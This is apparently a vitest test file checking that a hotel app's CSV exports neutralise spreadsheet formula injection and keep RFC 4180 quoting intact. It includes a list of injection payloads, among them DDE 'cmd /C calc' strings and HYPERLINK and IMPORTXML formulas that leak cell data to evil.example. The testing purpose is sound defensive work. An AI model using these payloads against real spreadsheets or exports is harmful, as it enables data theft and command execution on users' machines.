/**
 * CSV export injection: hostile hotel ids, names, AI-written profile fields (rows inserted as the
 * worker would write them) and snippet contents, downloaded through both exports and parsed back.
 * No cell may start like a formula unless it is defused by a leading apostrophe, and text with
 * commas, quotes and newlines must survive the trip (RFC 4180).
 */
import { parseString } from 'fast-csv';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp, type TestSession } from '../helpers.ts';
import { createHotel, createProfile, createSnippet } from '@hotel/domain/testing';

// OWASP's prefixes plus their full-width forms, which East Asian spreadsheet locales also read.
const FORMULA_START = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

const PAYLOADS = [
  '=1+1',
  '+41 22 000 00 00',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for rates")',
  '@SUM(A1:A9)',
  "+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
  "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
  '\uFF1D1+1',
  '\uFF0BSUM(1+1)',
  '\uFF0D2+3',
  '\uFF20SUM(A1:A9)',
];

/**
 * Harmless where the list separator is a comma, formulas where it is a semicolon (most of
 * continental Europe): a cell such as `Spa;=1+1;x` splits into `Spa`, `=1+1`, `x` there, and a
 * line break inside a cell can start a new row. The export is read back as each locale would.
 */
const SEMICOLON: [payload: string, comma: string][] = [
  ['Spa;=1+1;x', "Spa;'=1+1;x"],
  ['Pool; +cmd|\' /C calc\'!A0', "Pool; '+cmd|' /C calc'!A0"],
  ['a;@SUM(A1:A9)', "a;'@SUM(A1:A9)"],
  ['b;-2+3', "b;'-2+3"],
  ['c;\t=1+1', "c;'\t=1+1"],
  ['d;\uFF1D1+1', "d;'\uFF1D1+1"],
  ['first line\n=HYPERLINK("http://evil.example")', 'first line\n\'=HYPERLINK("http://evil.example")'],
  ['first line\r\n@SUM(A1)', "first line\r\n'@SUM(A1)"],
];

/** Text that is harmless but must survive quoting exactly. */
const RFC4180 = ['Hotel "Le Grand", Paris', 'line one\r\nline two\nline three', 'a,b,,c', '"', '""quoted""', 'trailing comma,', ' leading and trailing spaces '];

function parseCsv(body: string): Promise<{ headers: string[]; rows: string[][] }> {
  return new Promise((resolve, reject) => {
    const all: string[][] = [];
    parseString<string[], string[]>(body.replace(/^\uFEFF/, ''), { headers: false, trim: false, ignoreEmpty: false })
      .on('data', (r: string[]) => all.push(r))
      .on('error', reject)
      .on('end', () => resolve({ headers: all[0] ?? [], rows: all.slice(1) }));
  });
}

/**
 * The payload behind the defusing apostrophes: one at the cell start, and one after each
 * semicolon or line break that a formula character follows.
 */
function undefused(cell: string): string {
  const start = cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell;
  return start.replace(/(;|\r\n|\r|\n)( *)'(?=[=+\-@\t\uFF1D\uFF0B\uFF0D\uFF20])/g, '$1$2');
}

describe('CSV exports neutralize every formula prefix (incl. AI-written fields) and keep RFC 4180 text intact', () => {
  let t: TestApp;
  let user: TestSession;
  const hotelIds: string[] = [];

  beforeAll(async () => {
    t = await createTestApp();
    user = await t.loginAs();
    // Ids pass the id rule (no spaces, slashes, ?, #, %) but still start like formulas.
    const ids = ['=1+1', '+41', '-2+3', '@SUM(A1)', '=cmd|\'!A0'];
    for (const [i, payload] of PAYLOADS.entries()) {
      const h = await createHotel(t.db, { ...(ids[i] ? { id: ids[i] } : {}), name: payload });
      hotelIds.push(h.id);
      await createSnippet(t.db, h.id, { content: payload, source_url: i % 2 ? payload : 'https://example.com/' });
      await createProfile(t.db, h.id, {
        name: payload,
        brand_name: payload,
        address: payload,
        situated: payload,
        description: payload,
        amenities: JSON.stringify([payload, 'Pool']),
        transport_links: JSON.stringify([payload]),
        nearby_attractions: JSON.stringify([payload, '=second item is not at the cell start']),
        model: payload,
      });
    }
    for (const [payload] of SEMICOLON) {
      const h = await createHotel(t.db, { name: payload });
      hotelIds.push(h.id);
      await createSnippet(t.db, h.id, { content: payload });
      await createProfile(t.db, h.id, { name: payload, description: payload, amenities: JSON.stringify(['Pool', payload]) });
    }
    for (const text of RFC4180) {
      const h = await createHotel(t.db, { name: text });
      hotelIds.push(h.id);
      await createSnippet(t.db, h.id, { content: text });
      await createProfile(t.db, h.id, { name: text, description: text, amenities: JSON.stringify([text]) });
    }
  }, 120_000);
  afterAll(() => t?.close());

  async function raw(kind: 'profiles' | 'snippets') {
    const res = await t.app.inject({ method: 'GET', url: `/api/export/${kind}`, headers: t.auth(user) });
    expect(res.statusCode).toBe(200);
    return res.body.replace(/^\uFEFF/, '');
  }

  async function download(kind: 'profiles' | 'snippets') {
    const res = await t.app.inject({ method: 'GET', url: `/api/export/${kind}`, headers: t.auth(user) });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="hotel-/);
    return parseCsv(res.body);
  }

  function expectNoLiveFormula(rows: string[][], headers: string[]) {
    let defused = 0;
    for (const row of rows) {
      expect(row.length).toBe(headers.length);
      for (const [i, cell] of row.entries()) {
        expect(FORMULA_START.test(cell), `${headers[i]} = ${JSON.stringify(cell)}`).toBe(false);
        if (cell.startsWith("'") && FORMULA_START.test(cell.slice(1))) defused += 1;
      }
    }
    return defused;
  }

  it('profiles export: every payload in every AI-written field is defused with a leading apostrophe', async () => {
    const { headers, rows } = await download('profiles');
    expect(headers).toContain('description');
    expect(rows.length).toBe(PAYLOADS.length + SEMICOLON.length + RFC4180.length);
    const defused = expectNoLiveFormula(rows, headers);
    // 8 text fields + 3 lists + model per payload hotel, plus the formula-like ids.
    expect(defused).toBeGreaterThanOrEqual(PAYLOADS.length * 9);
    const col = (name: string) => headers.indexOf(name);
    for (const payload of PAYLOADS) {
      const row = rows.find((r) => undefused(r[col('description')]!) === payload);
      expect(row, `description ${JSON.stringify(payload)} round-trips`).toBeDefined();
      for (const f of ['name', 'brand_name', 'address', 'situated', 'model']) expect(undefused(row![col(f)]!)).toBe(payload);
      expect(undefused(row![col('amenities')]!)).toBe(`${payload}; Pool`);
      expect(undefused(row![col('nearby_attractions')]!)).toBe(`${payload}; =second item is not at the cell start`);
    }
  });

  it('snippets export: contents, hotel names, hotel ids and source URLs are defused', async () => {
    const { headers, rows } = await download('snippets');
    expect(rows.length).toBe(PAYLOADS.length + SEMICOLON.length + RFC4180.length);
    const defused = expectNoLiveFormula(rows, headers);
    expect(defused).toBeGreaterThanOrEqual(PAYLOADS.length * 2 + 5);
    const contents = rows.map((r) => undefused(r[headers.indexOf('content')]!));
    for (const payload of PAYLOADS) expect(contents).toContain(payload);
    const ids = rows.map((r) => r[headers.indexOf('hotel_id')]!);
    expect(ids).toEqual(expect.arrayContaining(["'=1+1", "'+41", "'-2+3", "'@SUM(A1)"]));
  });

  it.each(['profiles', 'snippets'] as const)('%s export: commas, quotes and CR/LF inside fields round-trip exactly (RFC 4180)', async (kind) => {
    const { headers, rows } = await download(kind);
    const column = kind === 'profiles' ? 'description' : 'content';
    const values = rows.map((r) => r[headers.indexOf(column)]!);
    for (const text of RFC4180) expect(values).toContain(text);
    const res = await t.app.inject({ method: 'GET', url: `/api/export/${kind}`, headers: t.auth(user) });
    // Quoted fields double their quotes; records end with CRLF.
    expect(res.body).toContain('"Hotel ""Le Grand"", Paris"');
    expect(res.body.endsWith('\r\n') || res.body.split('\r\n').length > rows.length).toBe(true);
  });

  it.each(['profiles', 'snippets'] as const)('%s export: every field, header included, is quoted', async (kind) => {
    const { headers, rows } = await download(kind);
    const body = await raw(kind);
    const records = [headers, ...rows];
    // Rebuild the file as RFC 4180 with every field quoted: it must be the same bytes.
    const quoted = records.map((r) => r.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')).join('\r\n');
    expect(body).toBe(quoted);
  });

  it.each(['profiles', 'snippets'] as const)('%s export: read with ";" as the separator, no piece starts like a formula', async (kind) => {
    const body = await raw(kind);
    // Whatever a semicolon-locale parser makes of the quotes, a cell can only begin at the start
    // of a line or after a semicolon; leading spaces are skipped as some spreadsheets do.
    const pieces = body.split(/\r\n|\r|\n/).flatMap((line) => line.split(';'));
    const live = pieces.filter((piece) => FORMULA_START.test(piece.replace(/^ +/, '')));
    expect(live).toEqual([]);
    // The comma reading keeps the text, with an apostrophe only where a piece would start a formula.
    const { headers, rows } = await download(kind);
    const column = kind === 'profiles' ? 'description' : 'content';
    const values = rows.map((r) => r[headers.indexOf(column)]!);
    for (const [, comma] of SEMICOLON) expect(values).toContain(comma);
  });
});
